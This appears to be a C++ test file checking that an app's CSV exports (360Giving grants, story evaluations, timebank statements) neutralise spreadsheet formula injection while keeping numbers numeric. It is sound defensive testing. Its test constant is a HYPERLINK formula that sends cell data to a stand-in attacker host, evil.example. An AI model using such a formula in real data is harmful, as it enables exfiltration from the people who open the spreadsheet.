// CSV formula injection, over the real server on both backends: a grant's title and
// group name, a story teller's name and a timebank gift's memo that begin with "=" are
// downloaded from /grants/360giving.csv, /evaluate/stories.csv and a timebank
// statement as text a spreadsheet will not run (OWASP's rule: a leading single quote,
// quoted), while numbers such as a statement's -90 stay numbers.
#include <gtest/gtest.h>

#include <sstream>

#include "core/csv.h"
#include "support/harness.h"

namespace kith {
namespace {

using Json = nlohmann::json;

// The classic exfiltration formula from the security test.
const std::string kFormula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";

// Every cell of a CSV document, read back as a spreadsheet would split it.
std::vector<std::vector<std::string>> cells_of(const std::string& csv) {
  std::istringstream in(csv);
  CsvReader reader(in);
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  while (reader.next(row)) rows.push_back(row);
  return rows;
}

// No cell would run as a formula, and the formula is there as text: with the quote.
void expect_neutralised(const std::string& csv, const std::string& formula, const std::string& where) {
  bool found = false;
  for (const auto& row : cells_of(csv))
    for (const auto& cell : row) {
      EXPECT_FALSE(csv_formula(cell)) << where << ": a cell a spreadsheet would run: " << cell;
      if (cell == "'" + formula) found = true;
    }
  EXPECT_TRUE(found) << where << " should hold the text '" << formula << "\n" << csv;
  EXPECT_EQ(csv.find("," + formula), std::string::npos) << where;
  EXPECT_EQ(csv.find("\"" + formula), std::string::npos) << where;
}

class CsvExportTest : public testing::BackendSuite {};

TEST_P(CsvExportTest, AGrantTitleAndGroupNameAreNotRunIn360Giving) {
  auto officer = signed_in("officer");
  auto fund = officer.post_json(
      "/api/v1/admin/grants",
      {{"do", "fund"}, {"name", "CSV fund" + tag()}, {"funder_name", "Thurrock Council"}, {"funder_id", "GB-LAE-THR"}});
  ASSERT_EQ(fund.status, 201) << fund.body;
  auto round =
      officer.post_json("/api/v1/admin/grants", {{"do", "round"},
                                                 {"fund_id", std::to_string(fund.json()["id"].get<std::int64_t>())},
                                                 {"name", "CSV round" + tag()},
                                                 {"opens_at", "2026-01-01"},
                                                 {"closes_at", "2030-12-31"},
                                                 {"budget", "400"},
                                                 {"max_amount", "250"},
                                                 {"match_required", "no"},
                                                 {"hour_value", "15"},
                                                 {"criteria", {"innovation"}}});
  ASSERT_EQ(round.status, 201) << round.body;
  std::string round_id = std::to_string(round.json()["id"].get<std::int64_t>());

  auto member = signed_in("member");
  auto started = member.post_json("/api/v1/grants/rounds/" + round_id, {{"group_name", kFormula}});
  ASSERT_EQ(started.status, 201) << started.body;
  std::int64_t id = started.json()["id"];
  std::string path = "/api/v1/grants/applications/" + std::to_string(id);
  ASSERT_EQ(member
                .post_json(path, {{"do", "submit"},
                                  {"group_name", kFormula},
                                  {"group_kind", "residents"},
                                  {"postcode", "RM17 5AB"},
                                  {"idea", kFormula},
                                  {"problem", "The park is dirty and nobody uses it"},
                                  {"who", "Ten neighbours"},
                                  {"assets", "Gloves"},
                                  {"lasting", "A school club"},
                                  {"costs", "Pickers and bags"},
                                  {"outcomes", {"belonging"}},
                                  {"amount", "100"},
                                  {"volunteer_hours", "10"},
                                  {"materials_value", "0"}})
                .status,
            200);
  std::string manage = "/api/v1/grants/rounds/" + round_id + "/manage";
  ASSERT_EQ(
      officer
          .post_json(manage,
                     {{"do", "sponsor"}, {"application", std::to_string(id)}, {"sponsor", "officer@demo.kith.test"}})
          .status,
      200);
  auto decided = officer.post_json(manage, {{"do", "decide"},
                                            {"application", std::to_string(id)},
                                            {"decision", "fund"},
                                            {"feedback", "A lovely idea with the school behind it."}});
  ASSERT_EQ(decided.status, 200) << decided.body;

  auto csv = browser().get("/grants/360giving.csv");
  ASSERT_EQ(csv.status, 200);
  ASSERT_NE(csv.body.find("360G-kith-" + std::to_string(id)), std::string::npos);
  expect_neutralised(csv.body, kFormula, "/grants/360giving.csv");
  // The amount is still a number a spreadsheet adds up.
  for (const auto& row : cells_of(csv.body))
    if (row[0] == "360G-kith-" + std::to_string(id)) {
      EXPECT_EQ(row[4], "100");
    }
}

TEST_P(CsvExportTest, AStoryTellersNameIsNotRunInTheEvaluationExport) {
  Json telling = {{"title", "Formula teller" + tag()},
                  {"body", "The lunch club gave my dad a reason to get dressed on a Wednesday."},
                  {"perspective", "person"},
                  {"consent", "named"},
                  {"teller_name", kFormula},
                  {"postcode", "DY1 1HL"},
                  {"outcomes", {"relationships"}}};
  auto told = browser().post_json("/api/v1/stories/tell", telling);
  ASSERT_EQ(told.status, 201) << told.body;
  std::int64_t id = told.json()["id"];
  auto published = signed_in("moderator")
                       .post_json("/api/v1/moderate/stories/" + std::to_string(id),
                                  {{"decision", "publish"}, {"public_body", telling["body"]}});
  ASSERT_EQ(published.status, 200) << published.body;

  auto csv = signed_in("officer").get("/evaluate/stories.csv");
  ASSERT_EQ(csv.status, 200);
  ASSERT_NE(csv.body.find("Formula teller" + tag()), std::string::npos);
  expect_neutralised(csv.body, kFormula, "/evaluate/stories.csv");
}

TEST_P(CsvExportTest, ATimebankMemoIsNotRunInAStatementAndMinutesStayNumbers) {
  // A coordinator gifts hours from the timebank to Pat, who is not online, with a memo.
  auto coordinator = signed_in("coordinator");
  const Json manage = coordinator.get("/api/v1/timebank/tilbury-chadwell/manage").json();
  std::int64_t pat = 0;
  for (const auto& m : manage["members"])
    if (m["name"] == "Pat (demo, not online)") pat = m["id"];
  ASSERT_NE(pat, 0) << manage.dump();
  auto gift = coordinator.post_json(
      "/api/v1/timebank/tilbury-chadwell/manage",
      {{"do", "gift"}, {"to", std::to_string(pat)}, {"hours", "0"}, {"minutes", "7"}, {"memo", kFormula}});
  ASSERT_EQ(gift.status, 200) << gift.body;

  auto csv = coordinator.get("/timebank/accounts/" + std::to_string(pat) + "/statement.csv");
  ASSERT_EQ(csv.status, 200) << csv.body;
  expect_neutralised(csv.body, kFormula, "the statement");
  bool gifted = false, negative = false;
  for (const auto& row : cells_of(csv.body)) {
    ASSERT_EQ(row.size(), 7u) << csv.body;
    if (row[4] == "'" + kFormula) {
      gifted = true;
      EXPECT_EQ(row[5], "7");
    }
    // The demo's exchanges Pat received: negative minutes stay plain numbers, not text.
    if (row[5].size() > 1 && row[5][0] == '-') negative = true;
    EXPECT_NE(row[5].substr(0, 1), "'") << csv.body;
    EXPECT_NE(row[6].substr(0, 1), "'") << csv.body;
  }
  EXPECT_TRUE(gifted) << csv.body;
  EXPECT_TRUE(negative) << csv.body;
}

INSTANTIATE_TEST_SUITE_P(Backends, CsvExportTest, ::testing::ValuesIn(testing::backends()), testing::backend_name);

}  // namespace
}  // namespace kith
